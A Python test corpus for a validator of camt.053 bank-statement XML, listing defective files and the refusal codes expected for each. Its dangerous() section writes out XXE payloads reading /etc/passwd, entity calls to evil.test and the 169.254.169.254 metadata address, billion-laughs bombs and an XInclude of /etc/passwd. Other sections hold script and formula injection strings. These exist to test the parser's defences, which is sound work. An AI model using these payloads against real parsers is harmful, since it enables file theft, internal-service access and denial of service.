"""Bank statements in XML, and what is wrong with each, by line (corpus 10).

A case is a whole file: `body` (repeated `repeat` times) or `body_b64`. `expect` lists the codes and
lines of the refusal, in order; `valid` is what an accepted file brings: statements, lines, and what
they move in fen.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

Case = dict[str, Any]

ACCOUNT = "6200000000000001"
HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08">
<BkToCstmrStmt><GrpHdr><MsgId>M1</MsgId></GrpHdr>
<Stmt><Id>S1</Id>
<Acct><Id><Othr><Id>6200000000000001</Id></Othr></Id><Ccy>CNY</Ccy></Acct>
<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="CNY">100.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-11-01</Dt></Dt></Bal>
<Bal><Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp><Amt Ccy="CNY">115.50</Amt><CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-11-02</Dt></Dt></Bal>
<Ntry><Amt Ccy="CNY">20.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts><Cd>BOOK</Cd></Sts><BookgDt><Dt>2026-11-02</Dt></BookgDt><AcctSvcrRef>B1</AcctSvcrRef>
<NtryDtls><TxDtls><RltdPties><Dbtr><Pty><Nm>张三</Nm></Pty></Dbtr></RltdPties><RmtInf><Ustrd>保证金</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>
<Ntry><Amt Ccy="CNY">4.50</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts><Cd>BOOK</Cd></Sts><BookgDt><Dt>2026-11-02</Dt></BookgDt><AcctSvcrRef>B2</AcctSvcrRef>
<NtryDtls><TxDtls><RmtInf><Ustrd>手续费</Ustrd></RmtInf></TxDtls></NtryDtls></Ntry>
</Stmt></BkToCstmrStmt></Document>
"""  # the file's own lines
STATEMENT = HEAD[HEAD.index("<Stmt>") : HEAD.index("</BkToCstmrStmt>")]
FIRST, SECOND, CLOSING, OPENING = 8, 10, 7, 6
BOOKED = "<BookgDt><Dt>2026-11-02</Dt></BookgDt>"
# The closing balance as it should be where one of the two entries is not there.
WITHOUT = {FIRST: "95.50", SECOND: "120.00"}


def changed(name: str, old: str, new: str, *expect: Any, at: int = 1, base: str = HEAD) -> Case:
    """The file with the `at`-th `old` changed into `new`; refused with the codes and lines given."""
    parts = base.split(old, at)
    assert len(parts) == at + 1, f"{name}: no such text"
    return refused(name, old.join(parts[:at]) + new + parts[at], *expect)


def refused(name: str, body: str, *expect: Any) -> Case:
    return {"name": name, "body": body, "expect": in_order(expect)}


def bytes_refused(name: str, body: bytes, *expect: Any) -> Case:
    told = base64.b64encode(body).decode()
    return {"name": name, "body_b64": told, "expect": in_order(expect)}


def in_order(faults: tuple[Any, ...]) -> list[list[Any]]:
    """Codes and lines as a refusal lists them; what is not told is left out."""
    told = [[value for value in fault if value != ""] for fault in faults]
    return sorted(told, key=lambda fault: (fault[1], fault[0]))


def taken(name: str, body: str | bytes, statements: int, lines: int, moved: int) -> Case:
    data = body if isinstance(body, bytes) else body.encode()
    return {
        "name": name,
        "body_b64": base64.b64encode(data).decode(),
        "expect": "valid",
        "valid": [statements, lines, moved],
    }


def cases() -> Iterator[Case]:
    """Every case of the interface."""
    yield from whole_files()
    yield from dangerous()
    yield from encodings()
    yield from accounts()
    yield from amounts()
    yield from days_and_sides()
    yield from sums()
    yield from references()
    yield from collective()
    yield from notices()


def whole_files() -> Iterator[Case]:
    yield taken("as it should be", HEAD, 1, 2, 1550)
    for version in ("02", "03", "04", "06", "09", "10", "13"):
        yield taken(f"version {version}", HEAD.replace("001.08", f"001.{version}"), 1, 2, 1550)
    yield refused("nothing", "", ("empty", 1))
    yield refused("only blanks", " \n\n", ("empty", 1))
    yield refused("cut off in the head", HEAD[:60], ("not-xml", 2))
    yield refused("cut off in an entry", HEAD[: HEAD.index("手续费")], ("not-xml", 11))
    yield refused("without its end", HEAD.replace("</Document>\n", ""), ("not-xml", 12))
    yield refused("something after the end", HEAD + "<x/>", ("not-xml", 13))
    yield refused("two documents", HEAD + HEAD, ("not-xml", 13))
    yield changed("a tag closed wrongly", "</Stmt>", "</Stmnt>", ("not-xml", 12))
    yield changed("an attribute without quotes", 'Ccy="CNY"', "Ccy=CNY", ("not-xml", OPENING))
    yield changed("a naked ampersand", "保证金", "A & B", ("not-xml", 9))
    yield changed("a control character", "保证金", "a\x08b", ("not-xml", 9))
    yield changed("a reference to a control character", "保证金", "&#8;", ("not-xml", 9))
    for space in ("camt.052", "camt.055", "pain.001", "pacs.008"):
        yield changed(
            f"another message: {space}",
            "camt.053",
            space,
            ("not-camt053", 2, f"urn:iso:std:iso:20022:tech:xsd:{space}.001.08"),
        )
    yield changed(
        "a version of one digit",
        "001.08",
        "001.8",
        ("not-camt053", 2, "urn:iso:std:iso:20022:tech:xsd:camt.053.001.8"),
    )
    yield changed(
        "no namespace", HEAD[HEAD.index(" xmlns") : HEAD.index(">\n<BkTo")], "", ("not-camt053", 2)
    )
    yield changed(
        "a namespace with a blank",
        "urn:iso",
        " urn:iso",
        ("not-camt053", 2, " urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"),
    )
    yield refused(
        "another root",
        HEAD.replace("Document", "Dokument"),
        ("not-camt053", 2, "urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"),
    )
    yield refused("a web page", "<html>\n<body>login</body>\n</html>", ("not-camt053", 1))
    yield refused("no statement in it", HEAD.replace(STATEMENT, ""), ("no-statement", 1))
    yield taken("two statements", HEAD.replace(STATEMENT, STATEMENT + other("S2", 1)), 2, 4, 3100)
    yield taken("blanks before it", "\n \n" + HEAD.partition("\n")[2], 1, 2, 1550)
    yield taken(
        "a comment before the root",
        HEAD.replace("<Document", "<!-- x -->\n<Document", 1),
        1,
        2,
        1550,
    )
    yield taken("no entries", without(FIRST, without(SECOND)).replace("120.00", "100.00"), 1, 0, 0)


def other(label: str, number: int) -> str:
    """The statement again, of the next days, with references of its own."""
    told = STATEMENT.replace("<Id>S1</Id>", f"<Id>{label}</Id>")
    return told.replace(">B1<", f">C{number}<").replace(">B2<", f">D{number}<")


def without(line: int, base: str = HEAD) -> str:
    """The file without one of its entries, adding up all the same."""
    rows = base.split("\n")
    kept = [*rows[: line - 1], "", "", *rows[line + 1 :]]
    old = "115.50" if base is HEAD else "120.00"
    return "\n".join(kept).replace(old, WITHOUT[line] if base is HEAD else "100.00")


def dangerous() -> Iterator[Case]:
    declared, rest = HEAD.split("\n", 1)
    bombs = {
        "a document type": "<!DOCTYPE Document>",
        "in small letters": "<!doctype Document>",
        "an external document type": '<!DOCTYPE Document SYSTEM "http://evil.test/x.dtd">',
        "a public identifier": '<!DOCTYPE Document PUBLIC "-//X//Y" "file:///etc/passwd">',
        "an external entity": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "an entity from the net": '<!DOCTYPE d [<!ENTITY x SYSTEM "http://169.254.169.254/">]>',
        "a parameter entity": '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.test/"> %x;]>',
        "billion laughs": '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;">]>',
        "quadratic growth": f'<!DOCTYPE d [<!ENTITY a "{"x" * 2000}">]>',
        "an element declared": "<!DOCTYPE d [<!ELEMENT Document ANY>]>",
        "an attribute declared": "<!DOCTYPE d [<!ATTLIST Document a CDATA 'x'>]>",
    }
    for name, bomb in bombs.items():
        yield refused(name, f"{declared}\n{bomb}\n{rest}", ("doctype", 2))
    yield refused("a document type first", f"<!DOCTYPE d>\n{HEAD}", ("doctype", 1))
    yield refused(
        "behind a comment", f"{declared}\n<!-- a\nb -->\n<!DOCTYPE d>\n{rest}", ("doctype", 4)
    )
    yield refused(
        "behind an instruction", f"{declared}\n<?x y?>\n<!DOCTYPE d>\n{rest}", ("doctype", 3)
    )
    yield changed("a document type inside", "<GrpHdr>", "<!DOCTYPE d><GrpHdr>", ("not-xml", 3))
    yield changed("an unknown entity", "保证金", "&xxe;", ("not-xml", 9))
    yield taken(
        "the five entities of XML", HEAD.replace("保证金", "&lt;&amp;&gt;&quot;&apos;"), 1, 2, 1550
    )
    yield taken("a document type as text", HEAD.replace("保证金", "&lt;!DOCTYPE a&gt;"), 1, 2, 1550)
    yield taken(
        "in a CDATA section", HEAD.replace("保证金", "<![CDATA[<!DOCTYPE a>]]>"), 1, 2, 1550
    )
    yield taken(
        "an instruction to include",
        HEAD.replace("保证金", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
        1, 2, 1550,
    )  # fmt: skip
    deep = "<a>" * 400 + "</a>" * 400
    yield refused("deep nesting", HEAD.replace("保证金", deep), ("not-xml", 9))


def encodings() -> Iterator[Case]:
    gbk = HEAD.replace("UTF-8", "GBK").encode("gbk")
    yield taken("in GBK, as declared", gbk, 1, 2, 1550)
    yield taken("in GB 18030", HEAD.replace("UTF-8", "GB18030").encode("gb18030"), 1, 2, 1550)
    yield taken("with a byte order mark", b"\xef\xbb\xbf" + HEAD.encode(), 1, 2, 1550)
    yield taken("with line ends of Windows", HEAD.replace("\n", "\r\n"), 1, 2, 1550)
    yield bytes_refused("GBK, declared UTF-8", HEAD.encode("gbk"), ("not-xml", 9))
    yield bytes_refused("UTF-16", HEAD.replace("UTF-8", "UTF-16").encode("utf-16"), ("not-text", 1))
    yield bytes_refused("UTF-16 without a mark", HEAD.encode("utf-16-le"), ("bad-encoding", 1))
    yield bytes_refused("UTF-32", HEAD.encode("utf-32"), ("not-text", 1))
    for name in ("UTF-16", "UTF-7", "EBCDIC-CP-US", "x-user", "Shift_JIS"):
        yield changed(
            f"declared {name}", 'encoding="UTF-8"', f'encoding="{name}"', ("bad-encoding", 1, name)
        )
    yield changed("a NUL", "保证金", "a\x00b", ("bad-encoding", 1))
    yield bytes_refused(
        "broken UTF-8", HEAD.encode().replace("张三".encode(), b"\xff\xff"), ("not-xml", 9)
    )
    yield bytes_refused(
        "half a character", HEAD.encode().replace("张三".encode(), b"\xe5\xbc"), ("not-xml", 9)
    )


def accounts() -> Iterator[Case]:
    line = HEAD.split("\n")[4]
    yield changed("no account", line, "", ("no-account", 4))
    yield changed("an empty account", ACCOUNT, "", ("no-account", 4))
    yield changed("an account of blanks", ACCOUNT, "  ", ("no-account", 4))
    yield changed(
        "another court's account",
        ACCOUNT,
        "6200999999999999",
        ("foreign-account", 7, "6200999999999999"),
    )
    yield changed(
        "an IBAN",
        "<Othr><Id>6200000000000001</Id></Othr>",
        "<IBAN>NL26VAYB8060476890</IBAN>",
        ("foreign-account", 7, "NL26VAYB8060476890"),
    )
    yield changed(
        "an account like ours, longer",
        ACCOUNT,
        ACCOUNT + "0",
        ("foreign-account", 7, ACCOUNT + "0"),
    )
    yield changed(
        "an account like ours, shorter", ACCOUNT, ACCOUNT[:-1], ("foreign-account", 7, ACCOUNT[:-1])
    )
    yield taken("our account in groups", HEAD.replace(ACCOUNT, "6200 0000 0000 0001"), 1, 2, 1550)
    yield taken(
        "our account behind the bank's code",
        HEAD.replace(ACCOUNT, "102100/6200000000000001"),
        1,
        2,
        1550,
    )
    euro = HEAD.replace('"CNY"', '"EUR"').replace(">CNY<", ">EUR<")
    yield refused("an account in euro", euro, ("wrong-currency", 7, "EUR"))


def amounts() -> Iterator[Case]:
    bad = [
        "",
        " ",
        "-20.00",
        "20,00",
        "1 000.00",
        "2e1",
        "NaN",
        "Infinity",
        "0x14",
        "２０.00",
        "20.00CNY",
        "twenty",
        "--1",
        "+-1",
        ".",
    ]
    for text in bad:
        yield changed(f"amount {text!r}", "20.00", text, ("bad-amount", FIRST, text.strip()))
    for text in ("20.001", "20.005", "0.001", "20.00000000000000001"):
        yield changed(f"amount {text}", "20.00", text, ("inexact-amount", FIRST, text))
    for text in ("99999999999999999.00", "10000000000000.01"):
        yield changed(f"amount {text}", "20.00", text, ("huge-amount", FIRST, text))
    for text in ("20", "20.0", "+20.00", "0020.00", "20.00000"):
        yield taken(f"amount {text}", HEAD.replace("20.00", text, 1), 1, 2, 1550)
    yield changed(
        "no amount",
        '<Amt Ccy="CNY">20.00</Amt>',
        "",
        ("bad-amount", FIRST, ""),
        ("no-currency", FIRST),
    )
    yield changed("no currency", '<Ntry><Amt Ccy="CNY">', "<Ntry><Amt>", ("no-currency", FIRST))
    yield changed(
        "an entry in euro", 'Ccy="CNY">20.00', 'Ccy="EUR">20.00', ("line-currency", 9, "EUR")
    )
    yield changed(
        "an entry in both", 'Ccy="CNY">4.50', 'Ccy="USD">4.50', ("line-currency", 11, "USD")
    )
    for text in ("", "x", "100,00", "1e2", "100.001"):
        yield changed(f"opening balance {text!r}", "100.00", text, ("bad-balance", OPENING, text))
    yield changed(
        "closing balance without a side",
        "<CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-11-02",
        "<Dt><Dt>2026-11-02",
        ("bad-balance", CLOSING, "115.50"),
    )


def days_and_sides() -> Iterator[Case]:
    for text in (
        "2026-13-02",
        "2026-02-30",
        "02.11.2026",
        "20261102x",
        "",
        "0000-00-00",
        "tomorrow",
    ):
        new = BOOKED.replace("2026-11-02", text)
        fault = ("bad-date", FIRST)
        yield changed(f"booked on {text!r}", BOOKED, new, fault)
    yield changed("no day at all", BOOKED, "", ("bad-date", FIRST))
    yield taken(
        "a day with a time",
        HEAD.replace(BOOKED, "<BookgDt><DtTm>2026-11-02T10:00:00+08:00</DtTm></BookgDt>"),
        1,
        2,
        1550,
    )
    yield taken("the value day alone", HEAD.replace("BookgDt", "ValDt"), 1, 2, 1550)
    for text in ("CR", "credit", "C", "", "CRDT DBIT"):
        new = f"<CdtDbtInd>{text}</CdtDbtInd><Sts>"
        yield changed(
            f"side {text!r}",
            "<CdtDbtInd>CRDT</CdtDbtInd><Sts>",
            new,
            ("bad-direction", FIRST, text),
        )
    yield taken(
        "a status in short", HEAD.replace("<Sts><Cd>BOOK</Cd></Sts>", "<Sts>BOOK</Sts>"), 1, 2, 1550
    )


def sums() -> Iterator[Case]:
    told = "100.00 + 15.50 = 115.50 ≠ {}"
    for text in ("115.49", "115.51", "0.00", "1155.00", "11550"):
        shown = {"11550": "11550.00"}.get(text, text)
        yield changed(
            f"closing balance {text}", "115.50", text, ("sums-differ", CLOSING, told.format(shown))
        )
    yield changed(
        "closing balance overdrawn",
        "115.50</Amt><CdtDbtInd>CRDT",
        "115.50</Amt><CdtDbtInd>DBIT",
        ("sums-differ", CLOSING, told.format("-115.50")),
    )
    yield changed(
        "an entry left out",
        "\n".join(HEAD.split("\n")[9:11]),
        "\n",
        ("sums-differ", CLOSING, "100.00 + 20.00 = 120.00 ≠ 115.50"),
    )
    yield changed(
        "an entry turned round",
        "<CdtDbtInd>DBIT",
        "<CdtDbtInd>CRDT",
        ("sums-differ", CLOSING, "100.00 + 24.50 = 124.50 ≠ 115.50"),
    )
    yield changed(
        "an entry pending",
        "BOOK",
        "PDNG",
        ("sums-differ", CLOSING, "100.00 + -4.50 = 95.50 ≠ 115.50"),
    )
    yield taken(
        "a pending entry beside",
        HEAD.replace(
            "</Stmt>",
            '<Ntry><Amt Ccy="CNY">9.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts><Cd>PDNG</Cd></Sts></Ntry></Stmt>',
        ),
        1,
        2,
        1550,
    )
    yield taken("the close of the day before", HEAD.replace("OPBD", "PRCD"), 1, 2, 1550)
    yield taken("no closing balance", HEAD.replace(HEAD.split("\n")[6], ""), 1, 2, 1550)
    yield taken(
        "no balances",
        HEAD.replace(HEAD.split("\n")[6], "").replace(HEAD.split("\n")[5], ""),
        1,
        2,
        1550,
    )
    second = other("S2", 1).replace("115.50", "115.49")
    yield refused(
        "the second statement",
        HEAD.replace(STATEMENT, STATEMENT + second),
        ("sums-differ", 15, told.format("115.49")),
    )


def references() -> Iterator[Case]:
    yield changed("a reference twice", "B2", "B1", ("reference-twice", 11, "B1"))
    yield refused(
        "the statement twice",
        HEAD.replace(STATEMENT, STATEMENT * 2),
        ("reference-twice", 17, "B1"),
        ("reference-twice", 19, "B2"),
    )
    yield taken(
        "no references",
        HEAD.replace("<AcctSvcrRef>B1</AcctSvcrRef>", "").replace(
            "<AcctSvcrRef>B2</AcctSvcrRef>", ""
        ),
        1,
        2,
        1550,
    )
    yield taken("a reversal", HEAD.replace("<Sts>", "<RvslInd>true</RvslInd><Sts>"), 1, 2, 1550)
    yield taken(
        "formulas and markup as text",
        HEAD.replace("保证金", "=1+1 &lt;script&gt;alert(1)&lt;/script&gt; @SUM(A1)"),
        1,
        2,
        1550,
    )
    yield taken("a very long text", HEAD.replace("保证金", "x" * 9000), 1, 2, 1550)


def parts_of(*amounts: str) -> str:
    """The first entry as a collective one."""
    old = HEAD[HEAD.index("<TxDtls>") : HEAD.index("</TxDtls>") + 9]
    return HEAD.replace(
        old, "".join(f'<TxDtls><Amt Ccy="CNY">{text}</Amt></TxDtls>' for text in amounts)
    )


def collective() -> Iterator[Case]:
    yield taken("parts that add up", parts_of("12.00", "8.00"), 1, 3, 1550)
    yield taken("parts that do not", parts_of("12.00", "9.00"), 1, 2, 1550)
    yield taken("parts that cannot be read", parts_of("12.00", "x"), 1, 2, 1550)
    yield taken("parts below a fen", parts_of("12.005", "7.995"), 1, 2, 1550)
    yield taken(
        "parts in another currency",
        parts_of("12.00", "8.00").replace('<Amt Ccy="CNY">8.00', '<Amt Ccy="EUR">8.00'),
        1,
        2,
        1550,
    )


def notices() -> Iterator[Case]:
    notice = HEAD.replace("camt.053", "camt.054").replace("BkToCstmrStmt", "BkToCstmrDbtCdtNtfctn")
    notice = notice.replace("<Stmt>", "<Ntfctn>").replace("</Stmt>", "</Ntfctn>")
    rows = notice.split("\n")
    notice = "\n".join(row for row in rows if not row.startswith("<Bal>"))
    yield taken("a notice", notice, 1, 2, 1550)
    yield changed(
        "a notice without a reference",
        "<AcctSvcrRef>B2</AcctSvcrRef>",
        "",
        ("advice-without-reference", 9),
        base=notice,
    )
    yield changed(
        "a notice for another account",
        ACCOUNT,
        "6200999999999999",
        ("foreign-account", 4, "6200999999999999"),
        base=notice,
    )
    yield changed("a notice with a bad amount", "20.00", "x", ("bad-amount", 6, "x"), base=notice)
